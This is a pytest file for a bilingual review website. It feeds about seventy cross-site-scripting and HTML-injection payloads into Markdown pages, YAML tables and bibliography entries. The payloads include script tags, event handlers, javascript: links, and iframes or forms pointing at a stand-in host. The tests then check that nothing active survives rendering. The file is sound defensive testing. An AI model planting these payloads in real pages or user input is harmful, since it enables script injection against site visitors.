"""Nothing a contributor writes becomes a script, a handler, a form, a frame or a thing loaded from
outside: every text of a review, and whole files."""

from __future__ import annotations

import datetime
import random
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from lxml import html
from markdown import Markdown

from laid import TESTS, lay
from laid import page as page_of
from review.evidence import corpus
from review.pages.all_pages import resolve, weave

MARK = "pwned"  # stands in whatever a payload would bring to life
PAYLOADS = (
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f'"><svg onload={MARK}()>',
    f"'><b onmouseover='{MARK}()'>x</b>",
    f"</div></div><form action=//{MARK}.example><input>",
    f"<iframe src=//{MARK}.example></iframe>",
    f"<style>@import '//{MARK}.example/x.css'</style>",
    f"<base href=//{MARK}.example>",
    f'<meta http-equiv="refresh" content="0;url=//{MARK}.example">',
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<object data=//{MARK}.example>",
    f"[x](javascript:{MARK}())",
    f"[x](JaVaScRiPt:{MARK}())",
    f"[x](<javascript:{MARK}()>)",
    f"[x](data:text/html,{MARK})",
    f"[x](vbscript:{MARK})",
    f"[x]( javascript:{MARK}())",
    f"[x][1]\n\n[1]: javascript:{MARK}()",
    f"<javascript:{MARK}()>",
    f"![x](https://{MARK}.example/x.png)",
    f"![x | y](//{MARK}.example/x.png)",
    f"![x](data:image/svg+xml,{MARK})",
    f"[![x](https://{MARK}.example/x.png)](page.md)",
    f'[x](https://example.org/"onclick="{MARK}())',
    f'[x](https://example.org "y" onclick="{MARK}()")',
    f"*x*{{: onclick={MARK}() }}",
    f"x {{ style=background:url(//{MARK}.example) }}",
    f"x\n{{: onclick={MARK}() }}",
    f"*x*\\\\{{: onclick={MARK}() }}",
    f"# x {{: onclick={MARK}() }}",
    f"[x](page.md){{onclick={MARK}()}}",
    f"| x {{onclick={MARK}()}} |\n|---|\n| y |",
    f"```\n</code></pre></div></div><script>{MARK}()</script>\n```",
    f"``` a b\n</div></div><img src=x onerror={MARK}()>\n```",
    f"~~~~\n~~~\n</div><script>{MARK}()</script>\n~~~~",
    f"```{{ .a onclick={MARK}() }}\nx\n```",
    f"    </div><script>{MARK}()</script>",
    f"`</code><script>{MARK}()</script>`",
    f"`` ` `` <script>{MARK}()</script> `",
    f"- ```\n  </div><script>{MARK}()</script>\n  ```",
    f"> ```\n> </div><img src=x onerror={MARK}()>",
    f"`x\n\n</div><script>{MARK}()</script>\n\ny`",
    f"<!--><script>{MARK}()</script>-->",
    f"<!-- --!><script>{MARK}()</script> -->",
    f"<!-- x\n\n-->\n<script>{MARK}()</script>",
    f"<!-<script>{MARK}()</script>",
    f"<?php {MARK} ?><script>{MARK}()</script>",
    f"<![CDATA[<script>{MARK}()</script>]]>",
    f"<!DOCTYPE x [<!ENTITY y '{MARK}'>]>",
    f"<scr<script>ipt>{MARK}()</script>",
    f"<\nscript>{MARK}()</script>",
    f"<script\n>{MARK}()</script>",
    f"<script/src=//{MARK}.example>",
    f"<a\nhref=javascript:{MARK}()>x</a>",
    f"<details open ontoggle={MARK}()>",
    f'<div markdown="1" onclick="{MARK}()">x</div>',
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;script>{MARK}()</script>",
    f"\\<script>{MARK}()</script>",
    f"\\\\<script>{MARK}()</script>",
    f'!!! note "<script>{MARK}()</script>"\n    </div><script>{MARK}()</script>',
    f"x\n:   <script>{MARK}()</script>",
    f"[^1]: <script>{MARK}()</script>",
    f"{{{{ {MARK} }}}}{{% raw %}}<script>{MARK}()</script>",
    f"[@smith2020]<script>{MARK}()</script>",
    f"[see [@smith2020]](javascript:{MARK}())",
    f"x\u2028<script>{MARK}()</script>",
    f"｜<script>{MARK}()</script>",
    f"a | b | <script>{MARK}()</script>",
)
PLAIN = frozenset(
    [
        "html",
        "body",
        "p",
        "em",
        "strong",
        "code",
        "pre",
        "br",
        "hr",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "div",
        "a",
    ]
)  # what Markdown alone may make
ADDRESS = re.compile(r"(?:https?:|mailto:)|(?![A-Za-z][A-Za-z0-9+.-]*:|//)", re.IGNORECASE)
PICTURE = re.compile(r"(?:\.\./)*assets/[\w./-]+\Z")

Parts = frozenset[tuple[str, str]]


def parts(whole: str) -> Iterator[tuple[str, str]]:
    """Each element and each attribute of a page; styles with what they say, apart from numbers."""
    for element in html.document_fromstring(f"<html><body>{whole}</body></html>").iter():
        tag = element.tag if isinstance(element.tag, str) else "comment"
        yield tag, ""
        for name, value in element.items():
            yield tag, f"style={re.sub('[0-9.]+', '0', value)}" if name == "style" else name
            if name in ("href", "src", "action", "data", "xlink:href") and not (
                ADDRESS if name == "href" else PICTURE
            ).match(value.strip()):
                yield tag, f"{name}={value}"


def alive(whole: str, honest: Parts) -> list[str]:
    """What no honest page has, apart from what Markdown alone makes."""
    return [
        f"{tag} {name}"
        for tag, name in parts(whole)
        if (tag, name) not in honest
        and not (
            tag in PLAIN and name in ("", "class", "id", "href", "title", "style=text-align: left;")
        )
    ]


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Parts:
    """The elements and attributes of two honest reviews."""
    base = lay(
        tmp_path_factory.mktemp("honest") / "review",
        {
            "both": "![曲线 | Curve](../assets/curve.png)",
            "zh": "甲 [@smith2020]。",
            "en": "A [@smith2020].",
        },
    )
    foreign = {
        ("small", "lang")
    }  # a name in the other language, which neither review has in small print
    return foreign | frozenset(
        part
        for root in (base, TESTS / "site")
        for _, page in converted(root, honest=True)
        for part in parts(page)
    )


def fill(value: object, texts: Iterator[str]) -> object:
    """A table with a payload behind each of its texts."""
    if isinstance(value, dict):
        return {
            key: f"{child} {next(texts)}"
            if key in ("zh", "en") and isinstance(child, str)
            else fill(child, texts)
            for key, child in value.items()
        }
    return [fill(child, texts) for child in value] if isinstance(value, list) else value


def endless(seed: int) -> Iterator[str]:
    chance = random.Random(seed)
    while True:
        yield from chance.sample(PAYLOADS, len(PAYLOADS))


def converted(root: Path, honest: bool = False) -> Iterator[tuple[str, str]]:
    """The pages of a review as HTML, made as the site makes them, of a hostile one those that hold
    something hostile; no check is asked before."""
    settings = yaml.safe_load(
        (TESTS.parent / "mkdocs.yml")
        .read_text(encoding="utf-8")
        .replace("!ENV", "")
        .replace("!!python", "")
    )
    names = [
        each if isinstance(each, str) else next(iter(each))
        for each in settings["markdown_extensions"]
    ]
    markdown = Markdown(
        extensions=[*names, "fenced_code"], extension_configs={"toc": {"permalink": True}}
    )
    read = corpus.read(root)
    for page in weave(read, datetime.date(2026, 11, 23), "https://example.org/review"):
        if MARK in page.markdown or honest:
            yield page.uri, markdown.reset().convert(resolve(page, read))


def test_the_judge_can_see(honest: Parts) -> None:
    """Left to Markdown alone, most of these come to life."""
    markdown = Markdown(extensions=["attr_list", "md_in_html", "tables", "fenced_code"])
    lively = [payload for payload in PAYLOADS if alive(markdown.reset().convert(payload), honest)]
    assert len(lively) > 35


@pytest.mark.parametrize("part", range(0, len(PAYLOADS), 12))
def test_a_hostile_page(part: int, honest: Parts, tmp_path: Path) -> None:
    """Each on a page of its own, in its title, too, which other pages repeat."""
    payloads = {f"review/page-{n}.md": text for n, text in enumerate(PAYLOADS[part : part + 12])}
    listed = "".join(f"  - {path}\n" for path in payloads)
    settings = {"docs/review.yml": {"  - review/page.md\n": f"  - review/page.md\n{listed}"}}
    root = lay(tmp_path, {"swap": settings})
    for path, payload in payloads.items():
        title = " ".join(payload.split()).replace("|", "")
        texts = {
            "zh": f"甲药有效。\n{payload}\n尾",
            "en": f"Drug A works. {payload}\n\n- x\n{payload}\n\nEnd.",
            "both": payload,
        }
        titled = page_of(root, texts).replace(
            "# 章节 | Section", f"# 章节 {title} | Section {title}"
        )
        (root / "docs" / path).write_text(titled, encoding="utf-8")
    found = {uri: alive(whole, honest) for uri, whole in converted(root)}
    assert {f"{language}/{path}" for language in ("zh", "en") for path in payloads} <= {*found}
    assert {uri: parts for uri, parts in found.items() if parts} == {}, payloads


@pytest.mark.parametrize("seed", range(3))
def test_a_hostile_table_vocabulary_and_bibliography(
    seed: int, honest: Parts, tmp_path: Path
) -> None:
    texts = endless(seed)
    root = lay(tmp_path, {})
    for file in [
        root / "docs/review.yml",
        *sorted(root.glob("docs/trials/*.yml")),
        *sorted(root.glob("docs/vocabulary/*.yml")),
    ]:
        data = yaml.load(file.read_text(encoding="utf-8"), yaml.BaseLoader)
        filled = fill(data, texts)
        for key in ("acronym", "abbr", "reports"):
            if isinstance(filled, dict) and key in filled:
                filled[key] = (
                    {"gazette": {"name": next(texts), "url": f"javascript:{MARK}()"}}
                    if key == "reports"
                    else next(texts)
                )
        file.write_text(
            yaml.safe_dump(filled, allow_unicode=True, sort_keys=False), encoding="utf-8"
        )
    bib = (root / "references.bib").read_text(encoding="utf-8")
    (root / "references.bib").write_text(
        re.sub(
            r"(title|journal) = \{(.*)\}",
            lambda match: f"{match[1]} = {{{match[2]} {_bib(next(texts))}}}",
            bib,
        ),
        encoding="utf-8",
    )
    found = [(uri, *alive(page, honest)) for uri, page in converted(root)]
    assert len(found) > 15
    assert [each for each in found if len(each) > 1] == []


def _bib(text: str) -> str:
    return " ".join(re.sub(r"[{}\\%#$&~^_]", "", text).split())
